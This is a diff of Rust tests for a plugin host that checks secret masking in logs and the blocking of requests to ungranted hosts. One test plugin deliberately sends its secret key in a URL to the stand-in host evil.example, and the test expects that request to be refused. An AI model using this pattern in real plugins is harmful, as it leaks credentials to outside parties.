@@ -8,9 +8,12 @@ use tokio::sync::mpsc;
 
 const SETTINGS: &str = "[capabilities.http]\nhosts = [\"api.example.com\"]\nmethods = [\"POST\"]\n";
 
-/// A plugin that sends this body.
+/// A plugin that sends this body to the recipient of the message.
 fn sends(body: &str) -> String {
-    format!("export const composeMessage = () => ({{ url: 'https://api.example.com/', body: {body} }});")
+    format!(
+        "export const composeMessage = ({{ recipient }}) =>
+           ({{ url: 'https://api.example.com/', headers: {{ to: recipient }}, body: {body} }});"
+    )
 }
 
 fn message() -> Message<'static> {
@@ -98,25 +101,26 @@ async fn one_that_does_not_load_holds_up_messages_alone() {
 #[tokio::test]
 async fn what_it_says_is_in_its_log_alone_and_secrets_are_not() {
     let (sender, mut lines) = mpsc::channel::<PluginLine>(99);
-    let source = "export const composeMessage = ({ code, environmentVariables: { KEY, ACT }, api }) => {
+    let source = "export const composeMessage = ({ code, recipient, environmentVariables: { KEY, ACT }, api }) => {
       console.info('with', KEY);
       if (ACT === 'deny') api.denyMessage(`not ${code}`);
       if (ACT === 'throw') throw new Error(`not ${code} by ${KEY}`);
-      if (ACT === 'elsewhere') return { url: `https://evil.example/${KEY}` };
-      return { url: 'https://api.example.com/', headers: { authorization: `Bearer ${KEY}` } };
+      if (ACT === 'elsewhere') return { url: `https://evil.example/${KEY}`, headers: { to: recipient } };
+      return { url: 'https://api.example.com/', headers: { authorization: `Bearer ${KEY}`, to: recipient } };
     };";
     let with = |act: &str| format!("{SETTINGS}[environment]\nACT = \"{act}\"\n[secrets]\nKEY = {{ file = \"key\" }}\n");
     let settings = with("send");
     let files = [("a.js", source), ("a.toml", &settings), ("key", "hunter2-hunter2")];
     let server = Server::with_options(&files, |options| PluginsOptions { log: Some(sender), ..options }).await;
     let request = compose(&server, "a").await.unwrap();
-    assert_eq!(request.headers, [("authorization".to_owned(), "Bearer hunter2-hunter2".to_owned())]);
+    let headers = [("authorization", "Bearer hunter2-hunter2"), ("to", "+16502530000")];
+    assert_eq!(request.headers, headers.map(|(name, value)| (name.to_owned(), value.to_owned())));
     let line = lines.recv().await.unwrap();
     assert_eq!((&*line.message, line.request_id.as_deref()), ("with ***", Some("msg_1")));
 
     for (act, outcome, said) in [
-        ("deny", None, "the message was denied: not 123456"),
-        ("throw", Some("failed"), "Error: not 123456 by ***"),
+        ("deny", None, "the message was denied: not ***"),
+        ("throw", Some("failed"), "Error: not *** by ***"),
         ("elsewhere", Some("bad_output"), "POST https://evil.example/*** was not granted to this plugin"),
     ] {
         let before = server.generation("a");
